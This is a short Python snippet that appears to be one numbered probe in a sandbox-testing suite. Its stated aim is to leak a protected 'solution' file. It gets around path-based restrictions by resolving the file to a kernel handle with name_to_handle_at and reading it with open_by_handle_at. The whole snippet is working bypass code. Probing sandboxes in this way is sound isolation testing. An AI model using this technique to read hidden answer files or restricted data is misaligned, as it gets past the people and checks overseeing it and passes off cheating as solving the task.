"""Opens the solution by its file handle, not by a path."""

# row: 13
# aim: leak


@attempt
def solution():
    handle = ctypes.create_string_buffer(136)
    handle[0:4] = (128).to_bytes(4, "little")
    mount = ctypes.c_int()
    path = TARGETS["solution"].encode()
    syscall("name_to_handle_at", -100, path, handle, ctypes.byref(mount), 0)
    where = os.open(os.path.dirname(TARGETS["solution"]), os.O_RDONLY)
    return os.read(syscall("open_by_handle_at", where, handle, 0), 10_000)
